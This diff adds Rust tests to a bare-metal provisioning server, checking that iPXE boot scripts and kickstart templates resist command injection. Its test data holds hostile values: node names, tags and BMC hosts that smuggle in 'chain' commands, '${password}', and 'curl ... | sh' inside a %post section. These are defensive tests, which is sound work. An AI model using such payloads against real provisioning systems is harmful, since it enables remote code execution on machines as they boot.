@@ -490,3 +490,246 @@ async fn leases_are_kept_in_the_store() {
     let again = StorePlanner::new(h.engine.clone(), h.store.clone(), NODE_BASE);
     assert_eq!(again.load_leases().await.unwrap().len(), 1);
 }
+
+/// The commands iPXE would run from `script`, each as its tokens, read the way iPXE reads a
+/// script (`src/image/script.c`, `src/core/exec.c`): lines end at `\n` (a trailing `\r` is
+/// dropped, a trailing `\` joins the next line), labels (`:name`) are skipped, tokens are
+/// split at whitespace, a token starting with `#` ends the line, and `||`, `&&` and `;`
+/// separate commands.
+fn ipxe_commands(script: &str) -> Vec<Vec<String>> {
+    let mut lines = Vec::new();
+    let mut pending = String::new();
+    for raw in script.split('\n') {
+        let raw = raw.strip_suffix('\r').unwrap_or(raw);
+        if let Some(joined) = raw.strip_suffix('\\') {
+            pending.push_str(joined);
+            continue;
+        }
+        pending.push_str(raw);
+        lines.push(std::mem::take(&mut pending));
+    }
+    let mut commands = Vec::new();
+    for line in lines {
+        let mut command = line.trim_start();
+        if let Some(labelled) = command.strip_prefix(':') {
+            command = labelled
+                .split_once(char::is_whitespace)
+                .map_or("", |(_, c)| c);
+        }
+        let mut current = Vec::new();
+        for token in command.split(|c: char| c.is_ascii_whitespace() || c == '\u{b}') {
+            match token {
+                "" => {}
+                t if t.starts_with('#') => break,
+                "||" | "&&" | ";" => commands.push(std::mem::take(&mut current)),
+                t => current.push(t.to_owned()),
+            }
+        }
+        commands.push(current);
+    }
+    commands.retain(|c: &Vec<String>| !c.is_empty());
+    commands
+}
+
+#[test]
+fn the_test_reader_of_ipxe_scripts_sees_injected_commands() {
+    let script = "#!ipxe\n:retry\necho a && chain http://x/pwn.ipxe\necho b\\\nreboot # c\n";
+    assert_eq!(
+        ipxe_commands(script),
+        [
+            vec!["echo", "a"],
+            vec!["chain", "http://x/pwn.ipxe"],
+            vec!["echo", "breboot"],
+        ]
+    );
+}
+
+/// Hostile names, in every shape that could add a command to a script.
+const PWN: &str = "http://127.0.0.1:1/pwn.ipxe";
+
+#[tokio::test]
+async fn a_node_name_cannot_add_commands_to_its_boot_script() {
+    let h = harness().await;
+    // A name with a line break is refused by the node rules, whichever API sends it.
+    let mut evil = h.node("52:54:00:12:34:40", &[]).await;
+    evil.id = String::new();
+    evil.identifiers = vec!["52:54:00:12:34:41".into()];
+    evil.name = format!("evil\nchain {PWN}");
+    let err = h
+        .engine
+        .nodes()
+        .create(evil.clone())
+        .await
+        .expect_err("a name with a line break is refused");
+    assert!(err.to_string().contains("'name'"), "{err}");
+    evil.name = format!("evil\r\n#!ipxe\nchain {PWN}");
+    assert!(h.engine.nodes().create(evil).await.is_err());
+
+    // Names without a line break that iPXE would still split into commands: the shipped
+    // install profile prints the name, and a profile of its own prints it, its tags and
+    // what the BMC's discovery recorded.
+    std::fs::write(
+        h.templates.path().join("show.ipxe"),
+        "#!ipxe\necho {{ node.name }} {{ node.tags | join(' ') }} {{ node.obmHost }}\nsanboot --drive 0x80\n",
+    )
+    .unwrap();
+    let names = [
+        format!("evil && chain {PWN}"),
+        format!("evil ; chain {PWN}"),
+        format!("evil || chain {PWN}"),
+        "evil\\".to_owned(),
+        "evil ${password}".to_owned(),
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let mac = format!("52:54:00:12:35:{i:02x}");
+        let mut node = Node {
+            id: String::new(),
+            name: name.clone(),
+            identifiers: vec![mac.clone()],
+            node_type: "compute".into(),
+            tags: vec![
+                "boot-profile=show.ipxe".to_owned(),
+                format!("x ; chain {PWN}"),
+            ],
+            obms: vec![Obm {
+                service: "sim-obm-service".into(),
+                config: ObmConfig {
+                    host: format!("sim\nchain {PWN}"),
+                    ..ObmConfig::default()
+                },
+            }],
+            created_at: String::new(),
+            updated_at: String::new(),
+        };
+        node = h.engine.nodes().create(node).await.expect("created");
+        let script = h.profile(&format!("macs={mac}&platform=efi")).await;
+        let commands = ipxe_commands(&script);
+        assert_eq!(
+            commands.iter().map(|c| c[0].as_str()).collect::<Vec<_>>(),
+            ["echo", "sanboot"],
+            "{name:?} changed the script's commands:\n{script}"
+        );
+        assert!(!script.contains('$'), "{script}");
+
+        // The shipped install profile, for a node whose install task runs.
+        let id = h
+            .run(
+                "Graph.InstallOS.PXE",
+                &node.id,
+                json!({"defaults": {"kernel": "http://10.9.0.1:8090/files/vmlinuz", "initrd": "http://10.9.0.1:8090/files/initrd.img"}}),
+            )
+            .await;
+        h.wait_task(&id, "wait-installed", "running").await;
+        let script = h.profile(&format!("macs={mac}&platform=efi")).await;
+        let commands = ipxe_commands(&script);
+        let names: Vec<&str> = commands.iter().map(|c| c[0].as_str()).collect();
+        assert_eq!(
+            names,
+            [
+                "echo", "kernel", "goto", "initrd", "goto", "boot", "goto", "echo", "sleep", "goto"
+            ],
+            "{name:?} changed the script's commands:\n{script}"
+        );
+        assert!(
+            !commands.iter().flatten().any(|t| t == PWN),
+            "{name:?} put its URL into an argument of its own:\n{script}"
+        );
+        h.engine.cancel(&id).await.expect("cancelled");
+    }
+}
+
+#[tokio::test]
+async fn reported_values_that_are_not_what_ipxe_writes_are_refused() {
+    let h = harness().await;
+    for query in [
+        format!("macs=52:54:00:12:36:01&platform=efi%0Achain%20{PWN}"),
+        "macs=52:54:00:12:36:01&platform=efi&buildarch=x86_64%20%26%26%20reboot".to_owned(),
+        "macs=52:54:00:12:36:01&platform=efi&uuid=%24%7Bpassword%7D".to_owned(),
+    ] {
+        let (status, _, body) = h.get(&format!("/api/2.0/profiles?{query}")).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
+    }
+    assert!(
+        h.engine.nodes().list().await.unwrap().is_empty(),
+        "no node was enrolled from a refused request"
+    );
+}
+
+#[tokio::test]
+async fn a_kickstart_refuses_to_print_a_line_break_a_node_brought_in() {
+    let h = harness().await;
+    std::fs::write(
+        h.templates.path().join("kickstart-callback.ks"),
+        include_str!("../templates/kickstart-callback.ks"),
+    )
+    .unwrap();
+    std::fs::write(
+        h.templates.path().join("bmc.ks"),
+        "# Node {{ node.name }}, BMC {{ node.obmHost }}\ntext\nreboot\n",
+    )
+    .unwrap();
+    let mut node = h.node("52:54:00:12:37:01", &[]).await;
+    // The BMC address came from discovery; it tries to add a %post section.
+    node = h
+        .engine
+        .nodes()
+        .update(&node.id, |n| {
+            n.obms[0].config.host = format!("10.0.0.5\n%post\ncurl {PWN} | sh\n%end");
+            Ok(())
+        })
+        .await
+        .expect("updated");
+    let (status, _, body) = h
+        .get(&format!("/api/2.0/templates/bmc.ks?nodeId={}", node.id))
+        .await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
+    let message = serde_json::from_str::<Value>(&body).expect("a JSON error")["error"]["message"]
+        .as_str()
+        .expect("a message")
+        .to_owned();
+    assert!(message.contains("control character U+000A"), "{message}");
+    assert!(
+        !message.contains('\n'),
+        "the message stays one line: {message}"
+    );
+
+    // The shipped kickstart, rendered while the node's callback task waits, carries the
+    // callback URL percent-encoded inside its single quotes.
+    h.engine
+        .definitions()
+        .put_graph(
+            serde_yaml::from_str(
+                "injectableName: Test.Wait\ntasks:\n  - {label: wait, taskName: Task.Wait.Notification}\n",
+            )
+            .unwrap(),
+        )
+        .await
+        .unwrap();
+    let quoted = h.node("52:54:00:12:37:02", &[]).await;
+    let quoted = h
+        .engine
+        .nodes()
+        .update(&quoted.id, |n| {
+            n.name = "o'brien; curl evil | sh".into();
+            Ok(())
+        })
+        .await
+        .expect("renamed");
+    let id = h.run("Test.Wait", &quoted.id, json!({})).await;
+    h.wait_task(&id, "wait", "running").await;
+    let (status, _, body) = h
+        .get(&format!(
+            "/api/2.0/templates/kickstart-callback.ks?nodeId={}",
+            quoted.id
+        ))
+        .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (_, token) = h.engine.waiting_token(&quoted.id).expect("a task waits");
+    assert!(
+        body.contains(&format!(
+            "'{NODE_BASE}/notification?nodeId={}&token={token}'",
+            quoted.id
+        )),
+        "{body}"
+    );
+}
